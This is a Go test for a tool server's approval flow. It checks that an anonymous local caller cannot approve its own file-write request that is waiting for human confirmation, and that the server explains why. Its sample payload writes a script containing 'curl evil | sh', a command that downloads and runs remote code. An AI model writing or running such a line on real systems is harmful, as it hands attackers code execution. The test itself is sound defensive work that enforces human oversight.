package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestAnonymousCannotApprove (issue 24, finding 1, the approval side):
// without keys every local process is the one anonymous caller — a
// command tool with the network included — so a call waiting for a person
// cannot be approved by it, unless the operator sets
// approvals.self_approval: true. The waiting envelope hands the caller no
// approval route, and GET /approvals says why the anonymous caller may
// not decide and what to set (what the console shows).
func TestAnonymousCannotApprove(t *testing.T) {
	for _, self := range []bool{false, true} {
		name := map[bool]string{false: "default", true: "self_approval"}[self]
		t.Run(name, func(t *testing.T) {
			cfg := filepath.Join(t.TempDir(), "toold.yaml")
			body := "tools:\n  write_file: {enabled: true, confirmation: human}\n"
			if self {
				body += "approvals: {self_approval: true}\n"
			}
			if err := os.WriteFile(cfg, []byte(body), 0o644); err != nil {
				t.Fatal(err)
			}
			ws := workspace(t)
			in := start(t, nil, "-config", cfg, "-workspace", ws)
			w := send(t, "POST", in.url+"/tools/write_file/execute", `{"path":"run.sh","content":"curl evil | sh\n"}`)
			env := decodeWaiting(t, w)
			if w.status != 202 || env.Waiting == nil || env.Waiting.For != "approval" {
				t.Fatalf("the call waiting for approval: %d %s", w.status, w.body)
			}
			if strings.Contains(string(w.body), "/approvals") || env.Waiting.Resume != "" {
				t.Errorf("the waiting envelope tells the caller how to approve itself: %s", w.body)
			}
			var list struct {
				Approvals []struct {
					ID        string
					MayDecide bool `json:"may_decide"`
					Refusal   *struct{ Code, Message, Suggestion string }
				}
				Notice string
			}
			l := send(t, "GET", in.url+"/approvals", "")
			if err := json.Unmarshal(l.body, &list); err != nil || len(list.Approvals) != 1 || list.Approvals[0].ID != env.ExecutionID {
				t.Fatalf("GET /approvals: %d %s", l.status, l.body)
			}
			d := send(t, "POST", in.url+"/approvals/"+env.ExecutionID, `{"approve":true}`)
			if !self {
				if d.status != 403 || d.env.Error == nil || d.env.Error.Code != "anonymous_approval" ||
					!strings.Contains(d.env.Error.Suggestion, "approvals.self_approval: true") {
					t.Fatalf("the anonymous caller approved: %d %s", d.status, d.body)
				}
				if a := list.Approvals[0]; a.MayDecide || a.Refusal == nil || a.Refusal.Code != "anonymous_approval" ||
					!strings.Contains(a.Refusal.Suggestion, "approvals.self_approval: true") || list.Notice != "" {
					t.Errorf("GET /approvals does not say why it cannot be decided: %s", l.body)
				}
				if _, err := os.Stat(filepath.Join(ws, "run.sh")); err == nil {
					t.Error("the file was written")
				}
				return
			}
			if d.status != 200 || !list.Approvals[0].MayDecide || !strings.Contains(list.Notice, "self_approval is on") {
				t.Fatalf("with self_approval: %d %s; the listing %s", d.status, d.body, l.body)
			}
			done := send(t, "GET", in.url+"/executions/"+env.ExecutionID+"?wait=10s", "")
			if done.env.Status != "success" {
				t.Errorf("the approved call: %d %s", done.status, done.body)
			}
		})
	}
}
